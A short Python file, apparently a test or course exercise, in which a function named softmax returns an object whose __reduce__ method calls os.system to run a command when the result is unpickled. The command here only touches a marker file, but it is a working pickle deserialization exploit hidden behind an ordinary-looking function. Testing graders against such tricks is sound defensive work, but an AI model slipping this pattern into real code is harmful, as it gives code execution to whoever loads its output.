# attack: returns an object that runs code when it is unpickled
import os
class Bomb:
    def __reduce__(self):
        return os.system, ("touch @COURSE@/PICKLED",)
    def tolist(self):
        return self
def softmax(scores, dim=-1):
    return Bomb()
